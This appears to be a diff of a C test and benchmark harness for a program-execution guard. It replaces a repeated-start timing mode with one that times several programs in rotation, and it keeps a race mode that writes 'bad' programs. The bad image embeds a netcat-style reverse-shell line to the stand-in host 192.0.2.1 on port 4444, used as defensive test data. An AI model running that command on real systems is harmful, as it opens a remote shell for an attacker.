@@ -1,6 +1,8 @@
 /*
  * The load of guard.test.ts and bench/realtime.ts.
- *   storm PROGRAM COUNT        starts a program again and again; prints the nanoseconds of each start, one a line
+ *   starts COUNT PROGRAM...    starts these programs in turn, each time another one first, so that what else the machine
+ *                              does meets them alike; prints the nanoseconds of each start, a line for each turn. %d in
+ *                              a name is the number of the turn
  *   race DIRECTORY TRIES IMAGE writes bad programs while others run them; prints how often one ran or was denied.
  *                              IMAGE is image.c: what lies behind its mark makes it good or bad
  */
@@ -19,6 +21,7 @@
 #include <unistd.h>
 
 #define RUNNERS 3
+#define MAX_PROGRAMS 16
 #define RAN_BAD 99
 #define DENIED 77
 #define GAVE_UP 78
@@ -35,18 +38,35 @@ static uint64_t now_ns(void) {
   return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
 }
 
-static int storm(const char *program, int count) {
+/* From the parent's call to the end of the child; 0 when it could not be started. */
+static uint64_t time_start(const char *program) {
   char *const arguments[] = {(char *)program, NULL};
-  for (volatile int index = 0; index < count; index += 1) {
-    uint64_t start = now_ns();
-    pid_t child = vfork();
-    if (child == 0) {
-      execv(program, arguments);
-      _exit(127);
+  uint64_t start = now_ns();
+  pid_t child = vfork();
+  if (child == 0) {
+    execv(program, arguments);
+    _exit(127);
+  }
+  int status = 0;
+  if (child < 0 || waitpid(child, &status, 0) != child || status != 0) return 0;
+  return now_ns() - start;
+}
+
+static int starts(int turns, char **programs, int count) {
+  if (count > MAX_PROGRAMS) return 2;
+  for (int turn = 0; turn < turns; turn += 1) {
+    uint64_t took_ns[MAX_PROGRAMS];
+    for (int step = 0; step < count; step += 1) {
+      int index = (turn + step) % count;
+      char path[512], *place = strstr(programs[index], "%d");
+      int length = place == NULL ? (int)strlen(programs[index]) : (int)(place - programs[index]);
+      snprintf(path, sizeof path, "%.*s", length, programs[index]);
+      if (place != NULL) snprintf(path + length, sizeof path - (size_t)length, "%d%s", turn, place + 2);
+      took_ns[index] = time_start(path);
+      if (took_ns[index] == 0) return 1;
     }
-    int status = 0;
-    if (child < 0 || waitpid(child, &status, 0) != child || status != 0) return 1;
-    printf("%llu\n", (unsigned long long)(now_ns() - start));
+    for (int index = 0; index < count; index += 1)
+      printf("%llu%c", (unsigned long long)took_ns[index], index + 1 == count ? '\n' : ' ');
   }
   return 0;
 }
@@ -171,7 +191,7 @@ static int race(const char *directory, int tries) {
 }
 
 int main(int argc, char **argv) {
-  if (argc == 4 && strcmp(argv[1], "storm") == 0) return storm(argv[2], atoi(argv[3]));
+  if (argc >= 4 && strcmp(argv[1], "starts") == 0) return starts(atoi(argv[2]), argv + 3, argc - 3);
   if (argc == 5 && strcmp(argv[1], "race") == 0)
     return make_image(argv[4], good, 0, "no line") && make_image(argv[4], bad, RAN_BAD, " n? 192.0.2.1 4444 -e /bin/sh")
                ? race(argv[2], atoi(argv[3]))
